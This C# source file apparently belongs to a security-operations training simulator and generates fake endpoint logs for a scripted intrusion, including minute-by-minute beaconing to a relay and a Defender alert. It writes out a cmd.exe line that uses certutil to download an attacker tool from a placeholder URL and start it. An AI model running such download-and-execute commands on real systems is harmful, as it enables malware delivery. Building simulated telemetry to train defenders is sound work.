using Soc.Simulator.Day.Sources;
using Soc.Simulator.Day.Sources.Defender;
using Soc.Simulator.Tenant;

namespace Soc.Simulator.Day.Story;

/// <summary>What happens on the victim's device: a tool of Windows fetches a tool of the attacker, which calls home.</summary>
internal static class StoryEndpoint
{
    private const string Fetch = $@"-urlcache -split -f {StoryPlot.ToolUrl}";

    private static readonly RunningProcess Explorer =
        RunningProcess.OfPerson(StoryPlot.Device, KnownPrograms.Explorer, StoryPlot.At(6, 41)) with { Parent = KnownPrograms.UserInit };

    private static readonly RunningProcess Prompt = ByVictim(
        KnownPrograms.CommandPrompt,
        $"\"C:\\Windows\\system32\\cmd.exe\" /c certutil.exe {Fetch} \"{StoryPlot.Tool.FolderPath}\" && start \"\" \"{StoryPlot.Tool.FolderPath}\"",
        11_836,
        StoryPlot.At(9, 28, 17),
        KnownPrograms.Explorer);

    private static readonly RunningProcess Certutil = ByVictim(
        KnownPrograms.Certutil, $"certutil.exe  {Fetch} \"{StoryPlot.Tool.FolderPath}\"", 11_904, StoryPlot.At(9, 28, 18), KnownPrograms.CommandPrompt);

    private static readonly RunningProcess Tool = ByVictim(
        StoryPlot.Tool, $"\"{StoryPlot.Tool.FolderPath}\"", 12_480, StoryPlot.At(9, 28, 31), KnownPrograms.CommandPrompt);

    public static IEnumerable<SourceRecord> FetchTool(Dice dice) =>
    [
        new ProcessRecord(dice.Next(), Explorer, Prompt),
        new ProcessRecord(dice.Next(), Prompt, Certutil),
        new ConnectionRecord(StoryPlot.At(9, 28, 19), dice.Next(), Certutil, StoryPlot.ToolServer),
        new FileRecord(
            StoryPlot.At(9, 28, 24),
            dice.Next(),
            Certutil,
            "FileCreated",
            StoryPlot.Tool.FileName,
            StoryPlot.Tool.FolderPath,
            StoryPlot.Tool.Sha256)
        {
            OriginUrl = StoryPlot.ToolUrl,
            OriginAddress = StoryPlot.ToolServer.Address,
        },
    ];

    public static IEnumerable<SourceRecord> StartTool(Dice dice) => [new ProcessRecord(dice.Next(), Prompt, Tool)];

    /// <summary>Every minute, give or take a second and a half.</summary>
    public static IEnumerable<SourceRecord> Beacon(Dice dice)
    {
        var first = StoryPlot.At(9, 29, 2);
        for (var beat = 0; beat < 30; beat++)
            yield return new ConnectionRecord(
                first.AddMinutes(beat) + dice.Between(TimeSpan.FromSeconds(-1.5), TimeSpan.FromSeconds(1.5)), dice.Next(), Tool, StoryPlot.Relay);
    }

    public static IEnumerable<SourceRecord> DefenderAlert(Dice dice)
    {
        var at = StoryPlot.At(9, 47, 12);
        var alert = new DefenderAlert(
            "da638989552320000000_1184205533",
            "Suspicious file downloaded by a system utility",
            "CommandAndControl",
            "Medium",
            """["Ingress Tool Transfer (T1105)","Remote Access Tools (T1219)"]""");
        yield return new AlertInfoRecord(at, dice.Next(), alert);
        foreach (var entity in new[] { "Machine", "User", "Process", "File", "Ip" })
            yield return new AlertEvidenceRecord(at, dice.Next(), alert, entity, Tool, StoryPlot.Relay);
    }

    private static RunningProcess ByVictim(ProgramFile program, string commandLine, int id, DateTimeOffset at, ProgramFile parent) =>
        new(program, commandLine, StoryPlot.Device, StoryPlot.Victim, id, at, parent);
}
